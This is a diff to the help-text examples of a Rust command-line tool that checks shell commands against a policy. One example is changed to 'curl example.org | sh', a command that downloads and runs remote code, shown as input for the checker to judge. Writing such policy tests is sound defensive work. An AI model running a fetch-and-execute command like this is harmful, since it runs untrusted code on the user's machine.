@@ -7,7 +7,7 @@ pub(crate) const EXAMPLES: &str =
 
 Examples:
   bowline policy check -- git push --force
-  bowline policy check --policy policy.json -- 'cargo test && curl https://example.org/x | sh'
+  bowline policy check --policy policy.json -- 'curl example.org | sh'
   bowline policy explain --policy policy.json
   bowline policy test --policy policy.json commands.jsonl";
 
